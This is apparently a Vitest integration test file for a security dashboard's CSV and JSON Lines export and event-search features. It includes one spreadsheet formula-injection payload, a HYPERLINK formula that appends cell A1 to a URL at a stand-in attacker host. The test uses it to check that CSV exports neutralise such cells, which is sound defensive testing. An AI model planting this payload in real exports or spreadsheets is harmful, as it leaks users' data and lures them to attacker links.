// Exports against a real PostgreSQL (issue 17): every row the filters select, across several
// keyset pages, in the screen's order; CSV cells that would run as formulas are neutralised;
// the explorer matches actions by literal substring and carries each event's score.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestDatabase, type TestDatabase } from "@/test/helpers/db";
import { seedDashboard } from "@/test/fixtures/seed-dashboard";
import { exportStream } from "@/lib/server/export/stream";
import { ZAlertFilters } from "@/lib/shared/alerts";
import { ZEventFilters, ZEventListQuery } from "@/lib/shared/events";
import { ALERT_EXPORT_COLUMNS, alertExportPages, EVENT_EXPORT_COLUMNS, eventExportPages } from "./exports";
import { searchEvents } from "./events";

let db: TestDatabase;
const FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"click")';

beforeAll(async () => {
  db = await createTestDatabase();
  await seedDashboard(db.url, { events: 2600, alerts: 30, principalsPerAccount: 3 });
  await db.prisma.$executeRaw`UPDATE events SET user_agent = ${FORMULA} WHERE id = (SELECT min(id) FROM events)`;
});
afterAll(() => db?.drop());

async function collect<T>(pages: AsyncGenerator<T[]>): Promise<T[]> {
  const out: T[] = [];
  for await (const p of pages) out.push(...p);
  return out;
}

describe("exports", () => {
  it("exports every event across pages, newest first, each with its score", async () => {
    const rows = await collect(eventExportPages(db.prisma, ZEventFilters.parse({})));
    expect(rows.length).toBe(await db.prisma.event.count());
    expect(rows.length).toBeGreaterThan(1000); // more than one page
    expect(new Set(rows.map((r) => r.id)).size).toBe(rows.length);
    for (let i = 1; i < rows.length; i++) expect(rows[i - 1].eventTime.getTime()).toBeGreaterThanOrEqual(rows[i].eventTime.getTime());
    const scored = await db.prisma.score.count();
    expect(rows.filter((r) => r.score !== null).length).toBe(Math.min(scored, rows.length));
  });

  it("exports the inbox with its filters, ATT&CK context included", async () => {
    const filters = ZAlertFilters.parse({ status: "all", technique: "T1098" });
    const rows = await collect(alertExportPages(db.prisma, filters, "x"));
    const expected = await db.prisma.$queryRaw<Array<{ n: number }>>`SELECT count(*)::int AS n FROM alerts WHERE attack_techniques && ARRAY['T1098', 'T1098.001', 'T1098.003']`;
    expect(rows.length).toBe(expected[0].n);
    expect(rows.length).toBeGreaterThan(0);
    const text = await new Response(exportStream("csv", ALERT_EXPORT_COLUMNS, alertExportPages(db.prisma, filters, "x"))).text();
    const lines = text.trim().split("\r\n");
    expect(lines[0]).toBe(ALERT_EXPORT_COLUMNS.map((c) => c.header).join(","));
    expect(lines).toHaveLength(rows.length + 1);
    expect(lines.slice(1).every((l) => /Persistence; Privilege Escalation/.test(l))).toBe(true);
  });

  it("neutralises formula cells in CSV and keeps them verbatim in JSON Lines", async () => {
    const first = await db.prisma.event.findFirstOrThrow({ orderBy: { id: "asc" }, select: { eventTime: true } });
    const window = { from: new Date(first.eventTime.getTime() - 1).toISOString(), to: new Date(first.eventTime.getTime() + 1).toISOString() };
    const filters = ZEventFilters.parse(window);
    const csv = await new Response(exportStream("csv", EVENT_EXPORT_COLUMNS, eventExportPages(db.prisma, filters))).text();
    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?x=""&A1,""click"")"`);
    expect(csv).not.toMatch(/,=HYPERLINK/);
    const jsonl = await new Response(exportStream("jsonl", EVENT_EXPORT_COLUMNS, eventExportPages(db.prisma, filters))).text();
    expect(jsonl.trim().split("\n").map((l) => JSON.parse(l).user_agent)).toContain(FORMULA);
  });

  it("matches actions by case-insensitive literal substring in the explorer", async () => {
    const page = await searchEvents(db.prisma, ZEventListQuery.parse({ action: "createaccess", limit: "200" }));
    const expected = await db.prisma.event.count({ where: { action: { contains: "CreateAccess", mode: "insensitive" } } });
    expect(page.items.length).toBe(Math.min(expected, 200));
    expect(expected).toBeGreaterThan(0);
    expect(page.items.every((e) => e.action.toLowerCase().includes("createaccess"))).toBe(true);
    // LIKE wildcards are literal: no action contains "%" or "_".
    expect((await searchEvents(db.prisma, ZEventListQuery.parse({ action: "%" }))).items).toEqual([]);
    expect((await searchEvents(db.prisma, ZEventListQuery.parse({ action: "iam_amazonaws" }))).items).toEqual([]);
  });
});
